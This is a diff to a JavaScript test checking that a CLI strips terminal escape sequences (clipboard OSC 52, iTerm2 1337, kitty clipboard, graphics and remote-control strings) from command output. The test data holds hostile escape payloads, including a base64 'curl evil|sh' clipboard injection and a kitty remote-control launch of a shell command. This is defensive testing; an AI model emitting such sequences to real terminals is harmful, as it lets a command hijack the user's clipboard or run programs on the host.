@@ -163,7 +163,7 @@ function oscNumbers(text) {
   return numbers
 }
 
-test("a command's OSC 52, 1337 and 5522 and its APC strings (the host's clipboard, iTerm2's downloads, kitty's graphics from host files and shared memory) never reach the terminal; other OSC strings do", (t) => {
+test("a command's OSC 52, 1337 and 5522 and its APC and DCS strings (the host's clipboard, iTerm2's downloads, kitty's graphics from host files and shared memory, kitty's remote control) never reach the terminal; other OSC strings do", (t) => {
   // Found by an attacker's review (mode35): a read-only run's printf '\033]52;c;<base64>\a' went to
   // the terminal as it was, and kitty, WezTerm, Alacritty, foot, Windows Terminal and tmux
   // (set-clipboard) put its text on the host's clipboard, for the user's next paste into a shell;
@@ -181,6 +181,10 @@ test("a command's OSC 52, 1337 and 5522 and its APC strings (the host's clipboar
     '\\033]50;Copy=:Y3VybCBldmlsfHNo\\007', // iTerm2's older number for 1337 (rfix35)
     '\\033]5522;type=write;Y3VybCBldmlsfHNo\\033\\\\', // kitty's clipboard protocol
     '\\033_Ga=T,t=s,f=24,s=1,v=1;L2RiLXNobQ==\\033\\\\', // kitty graphics: reads and unlinks a host shm object
+    // kitty's remote control: launches a program on the host (allow_remote_control yes; mode37)
+    '\\033P@kitty-cmd{"cmd":"launch","version":[0,26,0],"no_response":true,"payload":{"args":["sh","-c","touch /tmp/x"],"type":"background"}}\\033\\\\',
+    '\\033Ptmux;\\033\\033P@kitty-cmd{"cmd":"send-text"}\\033\\033\\\\\\033\\\\', // the same through tmux's passthrough
+    '\\302\\220@kitty-cmd{"cmd":"launch"}\\033\\\\', // the 8-bit DCS as UTF-8 (U+0090)
   ]
   const fs = require('node:fs')
   const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-osc52-'))
@@ -193,7 +197,7 @@ test("a command's OSC 52, 1337 and 5522 and its APC strings (the host's clipboar
     assert.deepEqual(oscNumbers(r.stdout).filter((n) => [50, 52, 1337, 5522].includes(n)), [], `${flags}: ${JSON.stringify(r.stdout)}`)
     // What the test wrote as one string reached the terminal as one (when not split between writes
     // to stdout and stderr, which the CLI reads apart: then the terminal saw a cut-off string and text).
-    assert.doesNotMatch(r.stdout, /Copy=|File=|type=write|\x1b_|t=s|t=f/, `${flags}: ${JSON.stringify(r.stdout)}`)
+    assert.doesNotMatch(r.stdout, /Copy=|File=|type=write|\x1b_|t=s|t=f|kitty-cmd|\x1bP|\x90/, `${flags}: ${JSON.stringify(r.stdout)}`)
     assert.match(r.stdout, /A\x1b\]0;kept-title\x07B/, `${flags}: other OSC strings pass: ${JSON.stringify(r.stdout)}`)
     for (const c of ['C', 'D']) assert.ok(r.stdout.includes(c), `${flags}: ${c}: ${JSON.stringify(r.stdout)}`)
   }
